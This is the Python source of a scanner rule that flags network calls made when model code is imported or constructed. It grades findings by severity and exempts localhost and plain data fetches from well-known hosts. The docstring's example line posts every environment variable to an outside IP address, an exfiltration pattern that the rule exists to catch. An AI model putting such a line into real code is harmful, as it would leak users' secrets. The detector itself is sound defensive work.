"""Python code that comes with the model uses the network as soon as it is imported or constructed.

What it finds:
    Sockets, HTTP, FTP and mail clients that are used at module level, in class bodies, in functions that those
    call, or in constructors; what a request or a caller names, as it is, is fetched for whoever asks and is left alone; when the model is used, only what fetches a program (by the ending of its name).

Why it matters:
    Loading a model should not tell anybody that it was loaded, send anything away, or fetch more code.

Example:
    ``requests.post('http://198.51.100.1/', json=dict(os.environ))`` at the top of ``modeling_x.py``.

Remedy:
    Do not load the model with its code; find out what is sent or fetched, and from where.

What it cannot see:
    What modules from elsewhere, or other files of the repository, do when this file calls them; names that only
    come about while the code runs. Scripts that only a person starts by their names (``hub/python-code`` says which those are) may fetch
    data by ``https``, and ask hosts that everybody uses, their own machine or an address that is computed.

References:
    https://docs.python.org/3/reference/import.html ; CWE-201, CWE-494.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from openvet.checks._check import Context
from openvet.checks.python._uses import found
from openvet.core.finding import Finding
from openvet.core.pattern import pattern
from openvet.core.rule import Confidence, Rule, Severity
from openvet.formats._addresses import KNOWN
from openvet.formats._python_told import CALLERS

RULE = Rule(
    id="python/network-at-load",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    since="0.1.0",
    cwe=(201, 494),
    needs=("python", "notebook", "python-bytecode"),
)

_GRADES = {"import": (Severity.HIGH, Confidence.MEDIUM), "construction": (Severity.MEDIUM, Confidence.MEDIUM)}
#: Calls that only fetch, where that is data from a host that everybody uses.
_FETCHES = pattern(
    r"(?:^|\.)(?:get|urlretrieve|urlopen|download|download_url|download_url_to_file|hf_hub_download|load_state_dict_from_url)$"
)
#: The end of a name that programs have, in an address or a place to which it is fetched.
_PROGRAM = pattern(r"\w\.(?:py|pyc|pyd|so|dll|dylib|exe|elf|sh|bat|ps1|whl)(?:['\"?#]|$)", re.ASCII)
#: Another program of the same machine.
_OWN_MACHINE = pattern(r"['\"](?:(?:https?|wss?|tcp)://)?(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[?::1\]?)(?![\w.-])")


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each such call."""
    for finding in found(
        ctx,
        "network",
        "uses the network",
        "Find out what is sent or fetched before you run this code.",
        {**_GRADES, "inference": _GRADES["construction"]},
    ):
        detail = str(finding.evidence["detail"])
        fetches = _FETCHES.search(str(finding.evidence["callable"])) is not None
        if _OWN_MACHINE.match(detail) or (fetches and detail == CALLERS):
            continue
        if (
            finding.severity is Severity.HIGH
            and fetches
            and KNOWN.match(detail.strip("'\""))
            and not _PROGRAM.search(detail)
        ):
            finding = replace(finding, severity=Severity.MEDIUM)
        if _PROGRAM.search(detail):
            yield replace(finding, severity=Severity.HIGH, message=f"{finding.message}, which is a program")
        elif finding.evidence["when"] != "inference":
            yield finding
